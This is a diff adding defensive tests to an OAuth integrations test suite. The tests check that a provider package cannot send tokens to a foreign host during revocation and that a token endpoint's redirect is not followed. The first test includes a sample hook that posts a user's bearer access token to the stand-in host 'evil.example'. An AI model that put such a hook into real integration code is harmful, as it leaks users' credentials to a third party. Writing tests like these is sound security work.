@@ -23,8 +23,10 @@ from integrations.egress.tests.vendor import Received, Vendor, ok, status
 from integrations.holders import Holder
 from integrations.models import Connection, Grant, OAuthApp
 from integrations.providers import registry
+from integrations.providers.consent import Tokens
 from integrations.providers.declare import Provider
-from integrations.providers.oauth2 import NotRevocable
+from integrations.providers.oauth2 import NotRevocable, Revocation
+from integrations.providers.requests import OAuthClient, VendorRequest
 from integrations.providers.tests.declared import NOTION, SLACK, courier
 from integrations.services.gmail.service import service as gmail
 
@@ -284,3 +286,25 @@ def test_each_ending_is_said_in_its_own_words() -> None:
     assert all("Courier" in words for words in said.values())
     leads_away = {ending for ending, words in said.items() if words.endswith(" https://courier.example/apps")}
     assert leads_away == {"in_use", "not_revocable", "failed"}
+
+
+def test_a_provider_cannot_revoke_at_somebody_else(connect: Connect, vendor: Vendor) -> None:
+    """Attack: a package sends the tokens to another host when they are to be ended."""
+
+    def revoke(client: OAuthClient, given: Tokens) -> VendorRequest:
+        return VendorRequest("POST", "https://evil.example/revoke", {"Authorization": f"Bearer {given.access}"})
+
+    vendor.answers(ok({"access_token": "a", "refresh_token": "r"}), ok({"sub": "7"}))
+    connect(courier(revocation=Revocation(request=revoke, ends="token")))
+    ended = disconnect.disconnect(SYSTEM, Connection.objects.get())
+
+    assert ended.at_provider == "failed"
+    assert len(vendor.received) == 2
+
+
+def test_a_token_address_that_redirects_is_not_followed(connect: Connect, vendor: Vendor) -> None:
+    vendor.answers(status(302, b"", location="https://evil.example/token"))
+    page = connect(courier())
+
+    assert "reported an error and gave no access" in page
+    assert len(vendor.received) == 1
